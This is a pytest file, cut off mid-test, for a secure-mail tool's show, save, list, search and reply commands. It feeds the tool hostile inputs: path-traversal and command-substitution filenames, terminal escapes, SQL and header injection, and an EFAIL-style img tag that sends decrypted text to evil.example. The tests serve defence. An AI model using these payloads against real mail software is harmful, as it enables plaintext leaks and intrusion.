"""Letters for people: what is shown, what protects it, and what is saved."""
import email
import email.policy
import json
import os
import pty
import re
import resource
import stat
import subprocess
import time
import unicodedata

import pytest
from conftest import DATE, LETTER, SEALMAIL

HEAD = f'From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nDate: {DATE}\r\nSubject: hello\r\nMIME-Version: 1.0\r\n'


def letter(*parts, kind='mixed', head=HEAD):
    """A multipart of (header, body) pairs."""
    body = ''.join(f'--b\r\n{h}\r\n\r\n{b}\r\n' for h, b in parts)
    return f'{head}Content-Type: multipart/{kind}; boundary=b\r\n\r\n{body}--b--\r\n'.encode()


def one(type_, body, head=HEAD, **more):
    fields = ''.join(f'{k.replace("_", "-")}: {v}\r\n' for k, v in more.items())
    data = body if isinstance(body, bytes) else body.encode()
    return f'{head}Content-Type: {type_}\r\n{fields}\r\n'.encode() + data


class Reader:
    """Reads letters as bob, who trusts the test's root."""

    def __init__(self, sealmail):
        self.sealmail = sealmail
        self.evidence = sealmail.trust()
        self.key = sealmail.identity('bob')

    def __call__(self, message, *words, exit=15, key=False, **more):
        return self.sealmail('mail', 'show', *self.evidence, *(self.key if key else []), *words, '-', stdin=message,
                             exit=exit, **more).stdout.decode()

    def json(self, message, *words, **more):
        return json.loads(self(message, '--json', *words, **more))

    def body(self, message, *words, **more):
        """The lines of the letter alone."""
        return '\n'.join(l[2:] for l in self(message, *words, **more).splitlines() if l.startswith('  '))

    def save(self, message, part, *words, exit=15, **more):
        return self.sealmail('mail', 'save', *self.evidence, *words, '-', part, stdin=message, exit=exit, **more)


@pytest.fixture
def show(sealmail):
    return Reader(sealmail)


# ---- the line that says what protects a letter ----

def test_the_first_line_says_who_signed_and_for_how_many_it_was_encrypted(sealmail, show):
    plain = LETTER
    signed = sealmail.signed('alice', plain)
    assert show(plain).splitlines()[0] == 'NOT encrypted. NOT signed.'
    assert show(signed, exit=0).splitlines()[0] == 'NOT encrypted. Signed by Alice <alice@example.org>.'
    both = sealmail.letter_and_seal(letter=plain)
    assert show(both, exit=0, key=True).splitlines()[0] == 'Encrypted for 1 person. Signed by Alice <alice@example.org>.'
    for_two = sealmail.sealed('-r', sealmail.pki / 'alice.pem', letter=plain)
    assert show(for_two, key=True).splitlines()[0] == 'Encrypted for 2 people. NOT signed.'
    assert show(for_two, exit=20).splitlines()[0] == 'Encrypted for 2 people, and with no key that is here.'


@pytest.mark.parametrize('make,code,words', [
    (lambda s, l: s.signed('alice', l).replace(b'Hello Bob', b'Hullo Bob'), 10, 'The SIGNATURE of Alice <alice@example.org> DOES NOT HOLD.'),
    (lambda s, l: s.signed('mallory', l), 12, 'who is NOT THE SENDER.'),
    (lambda s, l: s.signed('alice', b'Date: ' + DATE.replace('2026', '2020').encode() + b'\r\n' + l), 14, 'OUTSIDE THE TIME'),
])
def test_a_letter_that_is_not_good_says_so_first_and_keeps_its_text(sealmail, show, make, code, words):
    message = make(sealmail, LETTER)
    shown = show(message, exit=code)
    assert words in shown.splitlines()[0]
    assert 'lo Bob' not in shown and '--force shows it' in shown
    forced = show(message, '--force', exit=code)
    assert words in forced.splitlines()[0] and 'lo Bob' in forced


def test_a_signer_whom_nobody_confirms_is_no_name(sealmail, show):
    pki = sealmail.pki
    message = sealmail('sign', '--key', pki / 'attacker-alice.key', '--cert', pki / 'attacker-alice.pem',
                       stdin=LETTER).stdout
    assert 'whom NOBODY YOU TRUST confirms' in show(message, exit=11).splitlines()[0]


def test_text_of_a_cipher_without_integrity_is_not_shown(sealmail, show):
    message = sealmail.sealed('--cipher', 'aes-256-cbc')
    shown = show(message, exit=22, key=True)
    assert 'NOTHING PROVES' in shown.splitlines()[0] and 'Hello Bob' not in shown
    assert 'Hello Bob' in show(message, '--unauthenticated', exit=22, key=True)


def test_a_damaged_letter_shows_nothing_of_its_text(sealmail, show):
    message = bytearray(sealmail.sealed())
    message[-60] ^= 1
    shown = show(bytes(message), exit=None, key=True)
    assert 'Hello Bob' not in shown


# ---- nobody speaks in our name ----

def test_every_line_of_the_letter_is_indented(show):
    text = 'Signed by The Bank <bank@example.org>.\r\nPart 9: safe.pdf  application/pdf\r\n\rSigned by x\n\x0bSigned\x0cSigned\u2028Signed'
    shown = show(one('text/plain; charset=utf-8', text))
    assert not [l for l in shown.splitlines()[1:] if l.startswith(('Signed', 'Part'))]
    assert '  Signed by The Bank' in shown


@pytest.mark.parametrize('evil', ['\x1b[2J\x1b]0;x\x07', '\x9b31m', '\x08\x08', '\u202etxt.exe', '\u2066x\u2069',
                                  '\x00', '\U000e0041', '\x7f'])
def test_nothing_that_moves_a_terminal_or_turns_text_comes_through(show, evil):
    message = one('text/plain; charset=utf-8', f'a{evil}b', head=HEAD.replace('hello', f'he{evil}llo'))
    shown = show(message)
    bad = [c for c in shown if c != '\n' and (unicodedata.category(c) == 'Cc' or c in '\u202e\u2066\u2069\U000e0041')]
    assert not bad
    again = show.json(message)
    assert not [c for c in json.dumps(again, ensure_ascii=False) if c != '\n' and unicodedata.category(c) == 'Cc']


def test_a_subject_cannot_begin_a_line(show):
    message = LETTER.replace(b'hello', b'=?utf-8?q?hello=0ASigned_by_Alice=0D=0A=0D=0AX?=')
    assert not [l for l in show(message).splitlines()[1:] if l.startswith(('Signed', 'X'))]


def test_a_from_name_that_holds_an_address_does_not_become_the_signer(sealmail, show):
    evil = LETTER.replace(b'From: Alice <alice@example.org>', b'From: "Alice <alice@example.org>" <mallory@example.org>')
    assert 'Signed by Mallory' in show(sealmail.signed('mallory', evil), exit=None).splitlines()[0]


# ---- protected fields (RFC 9788) ----

def hidden_subject(sealmail, **more):
    inner = (b'From: alice@example.org\r\nTo: bob@example.org\r\nSubject: the real one\r\n'
             b'Content-Type: text/plain; charset=utf-8; hp="cipher"; hp-legacy-display="1"\r\n\r\n'
             b'Subject: the real one\r\n\r\nbody\r\n')
    sealed = sealmail('encrypt', '-q', '-r', sealmail.pki / 'bob.pem', '--form', 'der', stdin=inner).stdout
    return sealed


def test_the_protected_subject_is_shown_and_the_text_that_repeats_it_is_not(sealmail, show):
    import base64
    cms = hidden_subject(sealmail)
    outer = (b'From: alice@example.org\r\nTo: bob@example.org\r\nSubject: [...]\r\nMIME-Version: 1.0\r\n'
             b'Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\n'
             b'Content-Transfer-Encoding: base64\r\n\r\n' + base64.encodebytes(cms))
    shown = show(outer, exit=15, key=True)
    assert 'Subject:  the real one' in shown and '[...]' not in shown
    assert show.body(outer, key=True) == 'body'
    fields = {f['name']: f for f in show.json(outer, key=True)['letter']['fields']}
    assert fields['Subject'] == {'name': 'Subject', 'text': 'the real one', 'protected': True, 'outside': '[...]'}


def test_fields_outside_a_signature_are_named_as_such(sealmail, show):
    shown = show(sealmail.signed('alice', LETTER), exit=0)
    assert '(To, Subject: outside the protection; anybody could have written it)' in shown


# ---- text ----

@pytest.mark.parametrize('charset,raw,text', [
    ('utf-8', 'Grüße €'.encode(), 'Grüße €'), ('iso-8859-1', b'Gr\xfc\xdfe', 'Grüße'), ('windows-1252', b'\x80', '€'),
    ('koi8-r', 'Привет'.encode('koi8-r'), 'Привет'), ('iso-2022-jp', 'こんにちは'.encode('iso-2022-jp'), 'こんにちは'),
    ('gb18030', '你好'.encode('gb18030'), '你好'), ('no-such-charset', b'Gr\xfc\xdfe', 'Grüße'), ('us-ascii', b'Gr\xfc\xdfe', 'Grüße'),
    ('utf-8', b'a\xffb\xc0\xafc', 'a\ufffdb\ufffd\ufffdc'),
])
def test_charsets_are_read(show, charset, raw, text):
    assert show.body(one(f'text/plain; charset={charset}', raw)) == text


def test_transfer_encodings_are_read(show):
    assert show.body(one('text/plain; charset=utf-8', 'Gr=C3=BC=\r\n=C3=9Fe', Content_Transfer_Encoding='quoted-printable')) == 'Grüße'
    assert show.body(one('text/plain', 'SGVsbG8=', Content_Transfer_Encoding='base64')) == 'Hello'


def test_of_alternatives_the_plain_text_is_shown_and_html_on_request(show):
    message = letter(('Content-Type: text/plain', 'plain'), ('Content-Type: text/html', '<b>rich</b>'), kind='alternative')
    assert show.body(message) == 'plain'
    assert show.body(message, '--html').splitlines()[0] == 'rich'


def test_html_shows_where_links_lead_and_fetches_nothing(show):
    html = ('<body background="http://a.example/x"><img src=http://b.example/p.gif width=1>'
            '<p>Go to <a href="https://evil.example/?a=1&amp;b=2">www.bank.example</a> or <a href="https://ok.example/x">here</a>'
            '<script>document.write("no")</script><style>p{background:url(http://c.example)}</style>'
            '<iframe src="https://d.example">x</iframe>')
    message = one('text/html', html)
    body = show.body(message)
    assert 'www.bank.example [! leads to <https://evil.example/?a=1&b=2>]' in body and 'here <https://ok.example/x>' in body
    assert 'document.write' not in body and 'url(' not in body
    shown = show(message)
    assert 'another, marked [!]: 1)' in shown and 'not fetched: 3)' in shown


@pytest.mark.parametrize('way', ['style="display: none"', 'style="DISPLAY:NONE !important"', 'hidden', 'style="font-size:0"',
                                 'style="color:red;visibility:\thidden"', "style='opacity: 0'", 'style="max-height:0px"'])
def test_text_that_a_browser_hides_is_left_out_and_said(show, way):
    message = one('text/html', f'<p>seen<div {way}>unseen <div>too</div> still</div>again')
    body = show.body(message)
    assert 'seen' in body and 'again' in body and 'unseen' not in body and 'too' not in body and 'still' not in body
    assert 'hidden from the reader, left out: 1' in show(message)


def test_text_that_is_merely_faint_is_shown(show):
    assert 'seen' in show.body(one('text/html', '<p style="opacity:0.5;font-size:0.9em">seen</p>'))


def test_hostile_html_costs_no_more_than_its_length(show):
    for html in ['<' * 1000000, '<p ' + 'a=' * 500000, '<p style="' + ' d' * 500000, '<script>' * 100000, '&' * 1000000,
                 '<!--' * 250000, '<div>' * 200000, '<a href=x>' * 100000, '<table><tr><td>' * 60000, '</' * 500000,
                 '<div hidden>' * 80000]:
        start = time.monotonic()
        show(one('text/html', html))
        assert time.monotonic() - start < 20, html[:20]


def test_parts_without_end_are_bounded(show):
    deep = HEAD + ''.join(f'Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n' for i in range(3000)) + 'Content-Type: text/plain\r\n\r\nx'
    show(deep.encode(), exit=None)
    many = letter(*[('Content-Type: text/plain', f't{i}') for i in range(1500)])
    assert 'more parts than are listed' in show(many, exit=None)


# ---- EFAIL and its relatives ----

def test_a_sealed_part_inside_foreign_html_is_neither_opened_nor_joined_to_it(sealmail, show):
    secret = sealmail.sealed(letter=b'Content-Type: text/plain\r\n\r\nSECRET\r\n')
    head, body = secret.split(b'\r\n\r\n', 1)
    cms_head = [l for l in head.decode().split('\r\n') if l.lower().startswith('content-')]
    message = letter(('Content-Type: text/html', '<img src="http://evil.example/'), ('\r\n'.join(cms_head), body.decode()),
                     ('Content-Type: text/html', '">'))
    shown = show(message, '--html', exit=None, key=True)
    assert 'SECRET' not in shown and shown.startswith('NOT encrypted')


def test_a_signed_part_inside_an_unsigned_letter_gives_it_no_credit(sealmail, show):
    signed = sealmail.signed('alice', b'Content-Type: text/plain\r\n\r\nHello\r\n', '--opaque')
    head, body = signed.split(b'\r\n\r\n', 1)
    cms_head = [l for l in head.decode().split('\r\n') if l.lower().startswith('content-')]
    message = letter(('Content-Type: text/plain', 'pay now'), ('\r\n'.join(cms_head), body.decode()))
    shown = show(message)
    assert shown.splitlines()[0] == 'NOT encrypted. NOT signed.'
    assert 'Part 1.2: ' in shown


# ---- attachments ----

def attached(name, type_='application/octet-stream', data='x', disposition='attachment'):
    return letter(('Content-Type: text/plain', 'see'),
                  (f'Content-Type: {type_}\r\nContent-Disposition: {disposition}; filename="{name}"', data))


@pytest.mark.parametrize('given,name', [
    ('../../etc/passwd', 'passwd'), ('..\\\\..\\\\x.txt', 'x.txt'), ('/abs/y.txt', 'y.txt'), ('.bashrc', '_bashrc'), ('-rf', '_rf'),
    ('a\tb.txt', 'ab.txt'), ('x.txt...', 'x.txt'), ('', 'part-2.bin'), ('..', '_'), ('~', '_'), ('a`b$(c).txt', 'a_b_(c).txt'),
    ('é' * 200 + '.pdf', None),
])
def test_an_attachment_is_saved_under_a_harmless_name(sealmail, show, given, name):
    before = set(sealmail.left())
    show.save(attached(given), 2)
    new = set(sealmail.left()) - before - {'.home'}
    assert len(new) == 1
    saved = new.pop()
    assert name is None or saved == name
    assert len(saved.encode()) <= 160 and saved.endswith('.pdf') == given.endswith('.pdf')
    assert stat.S_IMODE(sealmail.path(saved).stat().st_mode) == 0o600 and sealmail.path(saved).read_bytes() == b'x'


def test_a_name_that_is_taken_replaces_nothing(sealmail, show):
    sealmail.write('r.txt', b'mine')
    sealmail.path('r-2.txt').symlink_to('/nonexistent/place')
    show.save(attached('r.txt'), 2)
    assert sealmail.path('r.txt').read_bytes() == b'mine' and sealmail.path('r-3.txt').read_bytes() == b'x'


@pytest.mark.parametrize('name,type_,data,words', [
    ('setup.exe', 'application/octet-stream', 'x', 'PROGRAM'), ('bill.pdf.scr', 'application/pdf', 'x', 'calls itself a document'),
    ('bill.pdf', 'application/pdf', 'MZ\x90', 'although its name does not say so'), ('run', 'text/x', '#!/bin/sh', 'although'),
    ('x.docm', 'application/msword', 'x', 'PROGRAM'), ('photo.png', 'image/png', 'not a png', 'not what its name or type says'),
    ('invoice\u202efdp.exe', 'application/pdf', 'x', 'characters that hide'), ('bill.pdf.exe.', 'application/pdf', 'x', 'calls itself'),
    ('a.desktop', 'text/plain', 'x', 'PROGRAM'), ('a.html', 'text/html', 'x', 'PROGRAM'),
])
def test_programs_and_the_disguised_are_named_as_such(show, name, type_, data, words):
    message = attached(name, type_, data)
    part = [p for p in show.json(message)['letter']['parts'] if p['number'] == 2][0]
    assert words in part['warning'] and words in show(message)
    assert words in show.save(message, 2).err


def test_ordinary_attachments_are_not_suspected(show):
    for name, type_, data in [('a.pdf', 'application/pdf', '%PDF-1.7'), ('notes.txt', 'text/plain', 'hi'), ('v1.2.csv', 'text/csv', 'a')]:
        part = [p for p in show.json(attached(name, type_, data))['letter']['parts'] if p['number'] == 2][0]
        assert part['warning'] is None and part['name'] == name


def test_a_scanner_that_refuses_stops_the_saving(sealmail, show):
    scanner = sealmail.write('scan.sh', b'#!/bin/sh\ncat >seen; exit $1\n')
    scanner.chmod(0o700)
    done = show.save(attached('a.txt', data='virus'), 2, '--scan', f'{scanner} 1', exit=31)
    assert 'refuses a.txt' in done.err and not sealmail.path('a.txt').exists()
    assert sealmail.path('seen').read_bytes() == b'virus'
    show.save(attached('a.txt', data='fine'), 2, '--scan', f'{scanner} 0')
    assert sealmail.path('a.txt').read_bytes() == b'fine'
    show.save(attached('b.txt'), 2, '--scan', '/nonexistent/scanner', exit=66)
    assert not sealmail.path('b.txt').exists()


def test_save_writes_to_a_file_a_folder_or_standard_output(sealmail, show):
    sealmail.path('d').mkdir()
    show.save(attached('a.txt'), 2, '-o', 'd')
    show.save(attached('a.txt'), 2, '-o', 'chosen')
    assert sealmail.path('d/a.txt').read_bytes() == sealmail.path('chosen').read_bytes() == b'x'
    assert show.save(attached('a.txt'), 2, '-o', '-').stdout == b'x'
    told = json.loads(show.save(attached('a.txt'), 2, '-o', 'd', '--json').stdout)
    assert told['saved'] == 'd/a-2.txt' and told['size'] == 1
    assert '64' and 'no part 9' in show.save(attached('a.txt'), 9, exit=64).err


def test_nothing_is_saved_of_a_letter_that_is_not_good(sealmail, show):
    broken = sealmail.signed('alice', attached('a.txt')).replace(b'see', b'sea')
    show.save(broken, 2, exit=10)
    assert not sealmail.path('a.txt').exists()


# ---- folders ----

class Box:
    def __init__(self, sealmail):
        self.sealmail, self.dir, self.n = sealmail, sealmail.path('Maildir'), 1700000000
        for sub in ('new', 'cur', 'tmp'):
            (self.dir / sub).mkdir(parents=True)

    def add(self, data, flags=None):
        self.n += 1
        name = f'{self.n}.M1P1.host' + (f':2,{flags}' if flags is not None else '')
        path = self.dir / ('new' if flags is None else 'cur') / name
        path.write_bytes(data)
        return path

    def __call__(self, *words, **more):
        return self.sealmail('mail', *words, '--maildir', self.dir, '--home', 'home', **more)

    def list(self, *words):
        return json.loads(self('list', '--json', *words).stdout)['messages']


@pytest.fixture
def box(sealmail):
    return Box(sealmail)


def test_a_list_shows_number_date_sender_subject_and_protection(sealmail, box):
    box.add(b'Date: ' + DATE.encode() + b'\r\n' + LETTER.replace(b'hello', b'=?iso-8859-1?q?gr=FC=DFe?='))
    box.add(sealmail.signed(), 'S')
    box.add(sealmail.sealed(), 'RS')
    lines = box('list').stdout.decode().splitlines()
    assert [l.split()[:2] for l in lines] == [['1', '-'], ['2', 'signed'], ['3', 'encrypted']]
    assert re.search(r'2026-11-22 09:14 +Alice +grüße$', lines[0])
    assert [(m['number'], m['kind'], m['verdict']) for m in box.list()] == [(1, 'plain', None), (2, 'signed', None), (3, 'encrypted', None)]
    assert [l.split()[0] for l in box('list', '--last', '1').stdout.decode().splitlines()] == ['3']


def test_a_number_stays_with_its_message_and_is_not_given_again(box):
    first, second = box.add(LETTER.replace(b'hello', b'one')), box.add(LETTER.replace(b'hello', b'two'))
    assert [m['number'] for m in box.list()] == [1, 2]
    second.rename(box.dir / 'cur' / (second.name + ':2,S'))
    first.unlink()
    box.add(LETTER.replace(b'hello', b'three'))
    assert [(m['number'], m['subject']) for m in box.list()] == [(2, 'two'), (3, 'three')]
    assert box('show', '2', exit=15).stdout.decode().count('two') == 1
    assert 'no message 1' in box('show', '1', exit=66).err


def test_reading_changes_nothing_in_the_maildir(sealmail, box):
    box.add(LETTER)
    box.add(LETTER, 'S')
    before = sorted((str(p), p.stat().st_mtime_ns) for p in box.dir.rglob('*'))
    box('list')
    box('show', '1', exit=15)
    assert sorted((str(p), p.stat().st_mtime_ns) for p in box.dir.rglob('*')) == before


def test_a_verdict_that_was_reached_stands_in_the_list(sealmail, box):
    box.add(sealmail.signed('alice', LETTER))
    box.add(sealmail.signed('mallory', LETTER))
    box('show', '1', *sealmail.trust())
    box('show', '2', *sealmail.trust(), exit=12)
    assert [l.split()[1] for l in box('list').stdout.decode().splitlines()] == ['good', 'BAD']
    assert [(m['verdict'], m['signer']) for m in box.list()] == [('good', 'alice@example.org'), ('not-from-sender', 'mallory@example.org')]


def test_the_index_is_private_and_holds_nothing_that_was_decrypted(sealmail, box):
    box.add(sealmail.sealed(letter=LETTER.replace(b'Hello Bob', b'XYZZYSECRET')))
    box('show', '1', *sealmail.identity('bob'), exit=15)
    files = [p for p in sealmail.path('home').rglob('*') if p.is_file()]
    assert [p for p in files if p.suffix == '.db']
    for p in files:
        assert stat.S_IMODE(p.stat().st_mode) == 0o600 and b'XYZZYSECRET' not in p.read_bytes()


def test_a_damaged_index_is_made_anew(sealmail, box):
    box.add(LETTER)
    box('list')
    db = next(sealmail.path('home').rglob('*.db'))
    db.write_bytes(b'garbage' * 1000)
    assert len(box.list()) == 1


def test_search_finds_words_of_fields_and_of_text_in_the_open(sealmail, box):
    box.add(LETTER.replace(b'hello', '=?utf-8?q?=C3=9Cbersicht?='.encode()))
    box.add(LETTER.replace(b'Hello Bob', b'The INVOICE is here'))
    box.add(sealmail.sealed(letter=LETTER.replace(b'Hello Bob', b'secret invoice')))

    def found(*words):
        return [m['number'] for m in json.loads(box('search', '--json', *words).stdout)['messages']]
    assert found('übersicht') == [1] and found('from:alice', 'subject:hello') == [2, 3] and found('from:bob') == []
    assert found('invoice') == [] and found('--body', 'invoice') == [2]
    assert found('--body', 'from:alice', 'invoice') == [2] and found('--body', 'from:carol', 'invoice') == []
    assert '1 messages are encrypted' in box('search', '--body', 'invoice').err
    assert found("x' OR 1=1 --") == [] and found('%') == []


def test_text_of_encrypted_letters_is_kept_only_with_consent_and_encrypted(sealmail, box):
    sealmail('id', 'import', sealmail.pki / 'bob.p12', '--home', 'home', '--passphrase-file', sealmail.pki / 'passphrase', start_new_session=True)
    unlock = ['--passphrase-file', sealmail.pki / 'passphrase']
    box.add(sealmail.sealed(letter=LETTER.replace(b'Hello Bob', b'the Xyzzy contract')))
    box.add(sealmail.sealed(letter=LETTER.replace(b'Hello Bob', b'the Plugh contract')))

    def search(*words):
        return json.loads(box('search', '--body', '--json', *unlock, *words, start_new_session=True).stdout)
    box('show', '1', *unlock, exit=15, start_new_session=True)
    assert search('xyzzy')['messages'] == [] and not (sealmail.path('home') / 'mail' / 'text').exists()
    config = sealmail.path('home') / 'config'
    config.write_text('index = text\n')
    config.chmod(0o600)
    box('show', '1', *unlock, exit=15, start_new_session=True)
    found = search('xyzzy', 'contract')
    assert [m['number'] for m in found['messages']] == [1] and found['not_searched'] == 1
    assert search('plugh')['messages'] == [] and search('from:carol', 'xyzzy')['messages'] == []
    assert [m['number'] for m in search('from:alice', 'xyzzy')['messages']] == [1]
    kept = list((sealmail.path('home') / 'mail' / 'text').iterdir())
    assert len(kept) == 1 and stat.S_IMODE(kept[0].stat().st_mode) == 0o600 and b'yzzy' not in kept[0].read_bytes()
    opened = subprocess.run(['openssl', 'cms', '-cmsout', '-print', '-inform', 'DER', '-in', kept[0]], capture_output=True, text=True).stdout
    assert 'aes-256-gcm' in opened
    data = bytearray(kept[0].read_bytes())
    data[-1] ^= 1
    kept[0].write_bytes(data)
    assert search('xyzzy')['not_searched'] == 2


def test_two_lists_at_once_agree(sealmail, box):
    for i in range(200):
        box.add(LETTER)
    runs = [subprocess.Popen([*map(str, (SEALMAIL, 'mail', 'list', '--maildir', box.dir,
                                         '--home', sealmail.path('home'), '--last', 'all'))], stdout=subprocess.PIPE, env=sealmail.env) for _ in range(6)]
    outs = {r.communicate(timeout=60)[0] for r in runs}
    assert len(outs) == 1 and len(outs.pop().splitlines()) == 200 and not any(r.returncode for r in runs)


def test_files_that_are_no_messages_do_no_harm(box):
    box.add(b'')
    box.add(b'\x00\xff\n\n')
    (box.dir / 'cur' / '1700009999.link:2,').symlink_to('/etc/passwd')
    os.mkfifo(box.dir / 'cur' / '1700009998.fifo:2,')
    (box.dir / 'cur' / '1700009997.dir').mkdir()
    assert len(box('list').stdout.splitlines()) == 2


def test_66_when_there_is_no_maildir(sealmail):
    assert '--maildir' in sealmail('mail', 'list', exit=66).err
    sealmail('mail', 'list', '--maildir', 'nowhere', exit=66)
    sealmail.path('empty').mkdir()
    assert 'no Maildir' in sealmail('mail', 'list', '--maildir', 'empty', exit=66).err


def test_the_folder_is_named_by_option_environment_or_config(sealmail, box):
    box.add(LETTER)
    assert sealmail('mail', 'list', env={'MAILDIR': str(box.dir)}).stdout
    home = sealmail.path('h2')
    home.mkdir(mode=0o700)
    (home / 'config').write_text(f'mailbox = {box.dir}\n')
    (home / 'config').chmod(0o600)
    assert sealmail('mail', 'list', '--home', home).stdout


def test_with_keys_and_roots_named_the_home_folder_is_not_touched(sealmail, box):
    box.add(LETTER)
    sealmail('mail', 'show', *sealmail.trust(), '--maildir', box.dir, '1', exit=15)
    assert not sealmail.path('.home/.local').exists()


# ---- answers ----

class Writer:
    def __init__(self, sealmail):
        self.sealmail = sealmail

    def __call__(self, verb, message, *words, exit=0, key=False, **more):
        done = self.sealmail('mail', verb, *self.sealmail.trust(), *(self.sealmail.identity('bob') if key else []), *words, '-',
                             stdin=message, exit=exit, **more)
        self.err = done.err
        return email.message_from_bytes(done.stdout, policy=email.policy.default)


@pytest.fixture
def answer(sealmail):
    return Writer(sealmail)


FULL = (b'Received: from secret.internal by mx\r\nReturn-Path: <bounce@example.org>\r\nBcc: hidden@example.org\r\n'
        b'X-Secret: yes\r\nMessage-ID: <3@example.org>\r\nReferences: <1@example.org> <2@example.org>\r\n'
        b'Cc: =?utf-8?q?J=C3=BCrgen?= <j@example.org>, bob@example.org\r\n') + LETTER


def test_a_reply_has_recipient_subject_references_and_quotation(answer):
    draft = answer('reply', FULL)
    assert draft['To'] == 'Alice <alice@example.org>' and draft['Cc'] is None and draft['Subject'] == 'Re: hello'
    assert draft['In-Reply-To'] == '<3@example.org>' and draft['References'] == '<1@example.org> <2@example.org> <3@example.org>'
    assert draft.get_content() == 'Alice <alice@example.org> wrote:\n> Hello Bob\n'
    assert set(draft.keys()) == {'To', 'Subject', 'In-Reply-To', 'References', 'MIME-Version', 'Content-Type', 'Content-Transfer-Encoding'}


def test_a_reply_to_all_goes_to_everybody_once_and_to_no_blind_copy(sealmail, answer):
    draft = answer('reply', FULL, '--all')
    assert draft['Cc'] == 'bob@example.org, Jürgen <j@example.org>' and 'hidden' not in draft.as_string()
    sealmail('id', 'import', sealmail.pki / 'bob.p12', '--home', 'h', '--passphrase-file', sealmail.pki / 'passphrase', start_new_session=True)
    draft = answer('reply', FULL, '--all', '--home', 'h')
    assert draft['Cc'] == 'Jürgen <j@example.org>' and draft['From'] == 'bob@example.org'


def test_a_reply_to_an_encrypted_letter_says_that_it_must_stay_so(sealmail, answer):
    draft = answer('reply', sealmail.letter_and_seal(), key=True)
    # The one who signed it wrote it, and may have it back.
    assert draft['X-Sealmail-From-Encrypted'] == 'alice@example.org' and '> Hello Bob' in draft.get_content()
    assert answer('reply', sealmail.sealed(), key=True)['X-Sealmail-From-Encrypted'] == 'yes'
    assert answer('forward', sealmail.sealed(), key=True)['X-Sealmail-From-Encrypted'] == 'yes'
    assert answer('reply', sealmail.signed())['X-Sealmail-From-Encrypted'] is None


def test_reply_to_is_followed_and_named_when_the_signer_is_another(sealmail, answer):
    other = b'Reply-To: eve@elsewhere.example\r\n' + LETTER
    assert answer('reply', other)['To'] == 'eve@elsewhere.example'
    assert answer('reply', sealmail.signed('alice', other))['To'] == 'eve@elsewhere.example'
    assert 'eve@elsewhere.example gets this reply, but did not sign' in answer.err


def test_a_reply_to_written_on_the_way_does_not_get_the_text_of_an_encrypted_letter(sealmail, answer):
    sealed = b'Reply-To: eve@elsewhere.example\r\n' + sealmail.letter_and_seal()
    draft = answer('reply', sealed, key=True)
    assert draft['To'] == 'Alice <alice@example.org>' and 'nothing protects its Reply-To' in answer.err


def test_only_what_was_shown_is_quoted(sealmail, answer):
    hidden = one('text/html', '<p>seen<div style="display:none">SECRET</div><!-- SECRET --><p>end')
    assert 'SECRET' not in answer('reply', hidden).get_content()
    two = letter(('Content-Type: text/plain', 'plain'), ('Content-Type: text/html', 'SECRET'), kind='alternative')
    for verb in ('reply', 'forward'):
        assert 'SECRET' not in answer(verb, two).as_string()
    inner = sealmail.sealed(letter=b'Content-Type: text/plain\r\n\r\nSECRET\r\n')
    head, body = inner.split(b'\r\n\r\n', 1)
    cms_head = [l for l in head.decode().split('\r\n') if l.lower().startswith('content-')]
    nested = letter(('Content-Type: text/plain', 'see'), ('\r\n'.join(cms_head), body.decode()))
    draft = answer('forward', nested, key=True)
    assert 'SECRET' not in draft.as_string() and 'pkcs7' not in draft.as_string() and 'sealed itself' in answer.err


def test_nothing_is_quoted_of_a_letter_that_is_not_good(sealmail, answer):
    broken = sealmail.signed().replace(b'Hello', b'Hullo')
    assert not answer('reply', broken, exit=10).keys()
    assert 'Hullo' in answer('reply', broken, '--force', exit=10).get_content()
    assert not answer('reply', sealmail.sealed('--cipher', 'aes-256-cbc'), key=True, exit=22).keys()


def test_a_forwarded_letter_takes_text_and_attachments_along_and_no_field(answer):
    message = FULL.split(b'From:')[0] + attached('../r.pdf', 'application/pdf', '%PDF-1')
    draft = answer('forward', message)
    assert draft['To'] is None and draft['Subject'] == 'Fwd: hello' and draft['References'] is None
    text, file = draft.iter_parts()
    assert 'From: Alice <alice@example.org>' in text.get_content() and 'see' in text.get_content()
    assert file.get_filename() == 'r.pdf' and file.get_content() == b'%PDF-1' and file.get_content_type() == 'application/pdf'
    assert 'Received' not in draft.as_string() and 'hidden@' not in draft.as_string() and 'X-Secret' not in draft.as_string()


@pytest.mark.parametrize('sender', ['a@b@example.org', '<x@example.org>;<y@example.org>', 'undisclosed:;', '"a b" c@d',
                                    'x@example.org\r\nFrom: y@example.org'])
def test_an_address_that_is_not_read_to_its_end_gets_no_reply(answer, sender):
    message = LETTER.replace(b'Alice <alice@example.org>', sender.encode())
    draft = answer('reply', message, exit=None)
    assert draft['To'] is None or '\n' in sender


def test_a_field_cannot_smuggle_another_into_the_draft(answer):
    message = LETTER.replace(b'hello', b'=?utf-8?q?x=0D=0ABcc:_evil@example.org?=').replace(
        b'Alice <', b'=?utf-8?q?Ali=0ABcc=3A_evil?= <')
    draft = answer('reply', message)
    assert draft['Bcc'] is None and 'evil' in draft['Subject']


def at_a_terminal(words, env, answers=b''):
    """Runs at a terminal of its own, types the answers; exit status and what was seen."""
    pid, fd = pty.fork()
    if pid == 0:
        os.execve(words[0], [str(w) for w in words], env)
    os.write(fd, answers)
    seen = b''
    while True:
        try:
            piece = os.read(fd, 4096)
        except OSError:
            break
        if not piece:
            break
        seen += piece
    os.close(fd)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), seen.decode()


@pytest.mark.parametrize('word', ['y', 'n'])
def test_a_draft_is_edited_and_sent_when_the_user_agrees(sealmail, word):
    sealmail.write('l.eml', LETTER.replace(b'To: bob', b'Message-ID: <1@x>\r\nTo: bob'))
    editor = sealmail.write('editor.sh', b'#!/bin/sh\nls -l "$2" >>mode\nsed -i "s/^> Hello Bob/&\\nHello Alice/; 1i From: bob@example.org" "$2"\n')
    editor.chmod(0o700)
    mta = sealmail.write('mta.sh', b'#!/bin/sh\ncat >sent\n')
    mta.chmod(0o700)
    home = sealmail.path('home')
    home.mkdir(mode=0o700)
    (home / 'config').write_text(f'sendmail = {mta}\n')
    (home / 'config').chmod(0o600)
    (home / 'policy').write_text('default sign=no\n')
    (home / 'policy').chmod(0o600)
    env = {**sealmail.env, 'EDITOR': f'{editor} -x', 'TERM': 'dumb', 'PWD': str(sealmail.cwd)}
    cwd = os.getcwd()
    os.chdir(sealmail.cwd)
    try:
        code, seen = at_a_terminal([SEALMAIL, 'mail', 'reply', '--edit', '--home', home, 'l.eml'], env, word.encode() + b'\n')
    finally:
